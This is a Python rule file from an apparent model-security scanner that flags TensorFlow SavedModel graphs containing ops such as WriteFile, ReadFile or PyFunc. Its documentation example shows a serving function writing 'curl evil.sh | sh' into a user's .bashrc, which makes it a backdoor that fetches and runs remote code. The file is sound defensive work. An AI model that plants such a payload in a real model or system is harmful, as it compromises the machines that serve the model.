"""S106 savedmodel-op: a SavedModel graph holding ops that read or write files or call Python."""

from __future__ import annotations

from collections.abc import Iterator

from inspector.engine import RuleOptions, Violation, rule
from inspector.graph import ModelGraph, Payload
from inspector.rules import _examples as ex

_MLP = ex.dense_chain("mlp", [16])


@rule(
    "S106", "savedmodel-op", "error", security_severity=8.8,
    invalid=[ex.carrying(_MLP, Payload("tf-op", "saved_model.pb function __inference_call_42 node 'WriteFile'",
                                       "TensorFlow op WriteFile (writes any file) in the graph"))],
    valid=[_MLP],
)
def savedmodel_op(graph: ModelGraph, opts: RuleOptions) -> Iterator[Violation]:
    """
    ## What it does
    Reports TensorFlow ops in a SavedModel's `saved_model.pb` that reach outside the tensors, such
    as `ReadFile`, `WriteFile` or `PyFunc`.

    ## Details
    Its graph and every function in its library are read; the ops reported are `ReadFile`,
    `WriteFile`, `MatchingFiles`, `PyFunc`, `EagerPyFunc`, file readers and summary writers. The
    protobuf is read field by field, without TensorFlow. Checkpoint ops every SavedModel holds
    (`SaveV2`, `RestoreV2`) are not reported.

    ## Why it matters
    The graph runs whenever the model is called (TF Serving, `tf.saved_model.load(path)(x)`,
    tf_keras loading the folder): such an op reads or overwrites files on the machine that serves
    the model, or calls Python. A model has no reason to touch the file system at inference.

    ## Example
    ```python
    @tf.function
    def serve(x):
        tf.io.write_file("/home/user/.bashrc", "curl evil.sh | sh")
        return model(x)
    ```

    ## How to fix
    Do not serve the SavedModel. Re-export it from code you trust; keep file input and output in
    the program around the model, not in its graph.
    """
    for p in graph.source.payloads:
        if p.kind == "tf-op":
            yield Violation(f"{p.place}: {p.detail}")
